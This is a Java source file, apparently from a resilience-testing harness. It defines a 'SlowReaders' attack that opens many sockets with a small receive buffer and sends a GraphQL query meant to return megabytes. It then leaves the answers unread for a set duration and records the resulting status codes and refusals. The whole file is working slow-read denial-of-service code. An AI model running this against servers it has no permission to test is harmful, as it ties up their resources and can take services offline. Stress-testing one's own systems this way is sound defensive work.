package io.github.ordermill.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import jakarta.json.Json;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.concurrent.locks.LockSupport;

/** Requests for a large answer that is not read. */
public final class SlowReaders implements Attack {

  private static final int RECEIVE_BUFFER = 4_096;
  private static final int READ_MILLIS = 100;

  private final URI server;
  private final int connections;
  private final byte[] request;

  /**
   * Readers of one query.
   *
   * @param query with an answer of some megabytes
   */
  public SlowReaders(URI server, int connections, String query) {
    this.server = server;
    this.connections = connections;
    var body = Json.createObjectBuilder().add("query", query).build().toString();
    var head =
        "POST /graphql HTTP/1.1\r\nHost: "
            + server.getAuthority()
            + "\r\nContent-Type: application/json\r\nContent-Length: "
            + body.length()
            + "\r\n\r\n";
    request = (head + body).getBytes(UTF_8);
  }

  @Override
  public Outcomes run(Duration duration) throws IOException {
    var outcomes = new Outcomes();
    var open = new ArrayList<Socket>();
    long end = System.nanoTime() + duration.toNanos();
    for (int i = 0; i < connections; i++) {
      try {
        var socket = new Socket();
        socket.setReceiveBufferSize(RECEIVE_BUFFER);
        open.add(socket);
        socket.connect(new InetSocketAddress(server.getHost(), server.getPort()));
        socket.getOutputStream().write(request);
      } catch (IOException refused) {
        outcomes.add("refused");
      }
    }
    while (System.nanoTime() < end) {
      LockSupport.parkNanos(end - System.nanoTime());
    }
    for (var socket : open) {
      outcomes.add(status(socket));
      socket.close();
    }
    return outcomes;
  }

  private static String status(Socket socket) {
    try {
      socket.setSoTimeout(READ_MILLIS);
      return new String(socket.getInputStream().readNBytes(12), US_ASCII);
    } catch (IOException nothing) {
      return nothing.getClass().getSimpleName();
    }
  }

  @Override
  public String toString() {
    return connections + " large answers that are not read";
  }
}
